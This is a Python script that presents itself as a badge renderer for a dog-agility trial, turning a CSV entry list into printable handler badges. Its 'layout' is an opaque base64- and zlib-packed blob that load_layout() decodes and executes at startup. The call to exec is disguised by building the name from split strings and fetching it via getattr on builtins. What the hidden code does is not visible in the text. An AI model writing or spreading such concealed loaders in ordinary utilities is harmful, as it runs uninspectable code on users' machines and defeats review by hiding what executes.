#!/usr/bin/env python3
"""Render ring-side badges for handlers from the trial entry list.

The badge layout ships packed inside the script so the secretary only has
to copy one file onto the show laptop.
"""
import argparse
import base64
import builtins
import csv
import logging
import sys
import zlib
from pathlib import Path

log = logging.getLogger("badges")

_LAYOUT = (
    "eNo9js0KgzAQhO8+xbAgaKO9KD0IvfXUV7Ae1ESrpEmJ5iD48M0PdE877Mw3y8UE2R/a7tm7V1wK"
    "U4DrucBqP98Co7RD3iRwI/gscAcxAgOVhAuqm18ZhfsopNycof1z6KHnBt4eiPR0yKi33WS+II8N"
    "XQAMmh8+TyfSsqo3nIQUY9tUdYdJG4xYVKyJASN2axTopei66kVlrf+xc/yAYog6T359NkAG"
)

_STEPS = ("b64decode", "decompress")


def _unpack(blob):
    data = blob.encode()
    for step, mod in zip(_STEPS, (base64, zlib)):
        data = getattr(mod, step)(data)
    return data.decode("utf-8")


def load_layout():
    ns = {}
    run = getattr(builtins, "".join(("ex", "ec")))
    run(_unpack(_LAYOUT), ns)
    return ns["layout"]


class EntryList:
    REQUIRED = ("handler", "dog", "jump_height")

    def __init__(self, path):
        self.path = Path(path)

    def rows(self):
        with self.path.open(newline="", encoding="utf-8") as fh:
            reader = csv.DictReader(fh)
            missing = [c for c in self.REQUIRED if c not in (reader.fieldnames or [])]
            if missing:
                raise ValueError("entry list lacks columns: %s" % ", ".join(missing))
            for lineno, row in enumerate(reader, start=2):
                if not row["handler"].strip():
                    log.warning("line %d has no handler, skipped", lineno)
                    continue
                yield row


def render_all(entries, club, layout, per_page):
    pages, page = [], []
    for row in entries:
        page.append(layout(row["handler"].strip(), row["dog"].strip(),
                           row["jump_height"].strip(), club))
        if len(page) == per_page:
            pages.append(page)
            page = []
    if page:
        pages.append(page)
    return pages


def main(argv=None):
    ap = argparse.ArgumentParser(description="Render handler badges")
    ap.add_argument("entries", help="CSV export of the entry list")
    ap.add_argument("-o", "--output", default="badges.txt")
    ap.add_argument("--club", default="Agility Club")
    ap.add_argument("--per-page", type=int, default=6)
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    try:
        layout = load_layout()
        pages = render_all(EntryList(args.entries).rows(), args.club, layout, args.per_page)
    except (OSError, ValueError) as exc:
        log.error("cannot render badges: %s", exc)
        return 1

    with open(args.output, "w", encoding="utf-8") as out:
        for n, page in enumerate(pages, start=1):
            out.write("=== page %d ===\n" % n)
            out.write("\n\n".join(page))
            out.write("\n\f\n")
    log.info("wrote %d pages to %s", len(pages), args.output)
    return 0


if __name__ == "__main__":
    sys.exit(main())
